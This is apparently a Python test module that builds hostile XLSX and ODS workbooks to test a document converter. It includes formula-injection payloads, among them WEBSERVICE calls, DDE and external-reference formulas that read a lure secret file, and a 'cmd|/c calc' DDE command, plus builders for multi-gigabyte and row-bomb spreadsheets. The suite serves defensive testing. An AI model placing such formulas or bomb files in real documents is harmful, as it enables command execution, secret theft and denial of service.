"""Workbooks that mean harm."""

from io import BytesIO
from pathlib import Path
from zipfile import ZIP_DEFLATED, ZipFile

import xlsxwriter

from tests.hostile.case import Case, Lures, Make, bytes_of
from tests.hostile.cases.documents_parts import PACKAGE, RELATIONS, flat, package, relation, relations
from tests.hostile.cases.tables_parts import convert

_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_SHEETS_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml"
_MiB = 2**20


def _parts(sheet: str) -> dict[str, str]:
    """The least that is a workbook, around the rows of a sheet."""
    overrides = "".join(
        f'<Override PartName="/xl/{part}.xml" ContentType="{_SHEETS_TYPE}.{kind}+xml"/>'
        for part, kind in {
            "workbook": "sheet.main", "worksheets/sheet1": "worksheet", "sharedStrings": "sharedStrings",
        }.items()
    )  # fmt: skip
    return {
        "[Content_Types].xml": f'<Types xmlns="{PACKAGE}/content-types"><Default Extension="rels" '
        f'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>{overrides}</Types>',
        "_rels/.rels": relations(relation(1, "officeDocument", "xl/workbook.xml", outside=False)),
        "xl/workbook.xml": f'<workbook xmlns="{_MAIN}" xmlns:r="{RELATIONS}"><sheets>'
        '<sheet name="S" sheetId="1" r:id="r1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": relations(
            relation(1, "worksheet", "worksheets/sheet1.xml", outside=False),
            relation(2, "sharedStrings", "sharedStrings.xml", outside=False),
        ),
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{_MAIN}"><sheetData>{sheet}</sheetData></worksheet>',
    }


def _workbook(sheet: str) -> Make:
    return bytes_of(package(_parts(sheet)))


def _strings(length: int, *, used: int) -> Make:
    """One text of this length, and cells that use it."""

    def make(path: Path, _: Lures) -> None:
        rows = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, used + 1))
        path.write_bytes(package(_parts(rows)))
        with (
            ZipFile(path, "a", ZIP_DEFLATED, compresslevel=1) as archive,
            archive.open("xl/sharedStrings.xml", "w") as part,
        ):
            part.write(f'<sst xmlns="{_MAIN}"><si><t>'.encode())
            for _piece in range(length // _MiB):
                part.write(b"x" * _MiB)
            part.write(b"</t></si></sst>")

    return make


def _many_rows(count: int) -> Make:
    """So many rows that say nothing of their numbers, and are packed to next to nothing."""

    def make(path: Path, _: Lures) -> None:
        head, tail = _parts("|")["xl/worksheets/sheet1.xml"].split("|")
        piece = b"<row><c><v>1</v></c></row>" * 10_000
        with ZipFile(path, "w", ZIP_DEFLATED, compresslevel=1) as archive:
            for name, part in _parts("").items():
                if "sheet1" not in name:
                    archive.writestr(name, part)
            with archive.open("xl/worksheets/sheet1.xml", "w") as sheet:
                sheet.write(head.encode())
                for _piece in range(count // 10_000):
                    sheet.write(piece)
                sheet.write(tail.encode())

    return make


_FAR = "<row r='1'><c r='A1'><v>1</v></c></row><row r='1048576'><c r='XFD1048576'><v>2</v></c></row>"


def _calling(path: Path, lures: Lures) -> None:
    """Formulas that fetch, run and read, with what they gave last."""
    with xlsxwriter.Workbook(str(path)) as book:
        sheet = book.add_worksheet()
        for row, formula in enumerate(
            (
                f'=_xlfn.WEBSERVICE("{lures.url}/w")',
                f"='{lures.secret.as_uri()}'#$Sheet1.A1",
                f"='{lures.secret.parent}/[{lures.secret.name}]Sheet1'!A1",
                "=cmd|'/c calc'!A1",
                f'=DDE("soffice";"{lures.secret}";"A1")',
                f'=HYPERLINK("{lures.url}/h","kept")',
                '=INFO("directory")',
            )
        ):
            sheet.write_formula(row, 0, formula, value="kept")
        sheet.insert_image(9, 0, "a.png", {"image_data": BytesIO(_PIXEL)})


_PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010100000000376ef9240000000a49444154789c6368000000820081"
    "77cd72b60000000049454e44ae426082"
)


def _calling_open(path: Path, lures: Lures) -> None:
    """The same in an OpenDocument sheet, with a table and DDE links that come from elsewhere."""
    secret = lures.secret.as_uri()
    formulas = (
        f"of:=WEBSERVICE(&quot;{lures.url}/w&quot;)",
        f"of:='{secret}'#$Sheet1.A1",
        f"of:=DDE(&quot;soffice&quot;;&quot;{lures.secret}&quot;;&quot;A1&quot;)",
    )
    cells = "".join(
        f'<table:table-row><table:table-cell table:formula="{formula}" office:value-type="string">'
        "<text:p>kept</text:p></table:table-cell></table:table-row>"
        for formula in formulas
    )
    linked = "".join(
        f'<table:table table:name="t{number}"><table:table-source xlink:href="{target}" '
        'table:filter-name="Text - txt - csv (StarCalc)" table:mode="copy-all"/><table:table-row>'
        '<table:table-cell table:number-columns-repeated="2"/></table:table-row></table:table>'
        for number, target in enumerate((secret, f"{lures.url}/t.csv"))
    )
    content = flat(f'<table:table table:name="a">{cells}</table:table>{linked}', kind="spreadsheet")
    content = content.replace("office:document ", "office:document-content ")
    content = content.replace("/office:document>", "/office:document-content>")
    media = "application/vnd.oasis.opendocument.spreadsheet"
    manifest = (
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{media}"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        "</manifest:manifest>"
    )
    content = content.replace(f' office:mimetype="{media}"', "")
    path.write_bytes(package({"mimetype": media, "content.xml": content, "META-INF/manifest.xml": manifest}))


CASES: tuple[Case, ...] = (
    convert("H083", "an XLSX that calls", _calling, "a.xlsx", "csv", absent=(b"WEBSERVICE", b"cmd|")),
    convert("H083", "an XLSX that calls, for an office", _calling, "a.xlsx", "csv", tool="office-convert"),
    convert("H083", "an XLSX that calls, as an old one", _calling, "a.xlsx", "ods", tool="office-convert"),
    convert("H083", "an ODS that calls, for an office", _calling_open, "a.ods", "html",
        tool="office-convert"),
    convert("H083", "an ODS that calls", _calling_open, "a.ods", "csv"),
    convert("H095", "an XLSX of three million rows", _many_rows(3_000_000), "a.xlsx", "csv", "input_limit"),
    convert("H095", "an XLSX of three million rows, as text", _many_rows(3_000_000), "a.xlsx", "txt",
        "input_limit", tool="text-extract"),
    convert("H095", "an XLSX of three million rows, for an office", _many_rows(3_000_000), "a.xlsx", "csv",
        "input_limit", tool="office-convert"),
    convert("H096", "an XLSX with a far cell", _workbook(_FAR.replace("'", '"')), "a.xlsx", "csv",
        "input_limit"),
    convert("H096", "an XLSX with a far cell in single quotes", _workbook(_FAR), "a.xlsx", "csv",
        "input_limit"),
    convert("H096", "an XLSX with a far cell, as text", _workbook(_FAR), "a.xlsx", "txt", "input_limit",
        tool="text-extract"),
    convert("H096", "an XLSX with a far cell, for an office", _workbook(_FAR), "a.xlsx", "csv",
        "input_limit", tool="office-convert"),
    convert("H096", "an XLSX with a far cell, printed", _workbook(_FAR), "a.xlsx", "pdf",
        "completed", "input_limit", tool="office-convert"),
    convert("H097", "an XLSX of 1 GB of texts", _strings(1025 * _MiB, used=1), "a.xlsx", "csv",
        "input_limit"),
    convert("H097", "an XLSX of 100 MB of texts, for an office", _strings(100 * _MiB, used=1), "a.xlsx",
        "csv", "input_limit", tool="office-convert"),
    convert("H097", "an XLSX with a text of 10 MB in 1,000 cells", _strings(10 * _MiB, used=1000), "a.xlsx",
        "csv", "input_limit", "tool_memory"),
)  # fmt: skip
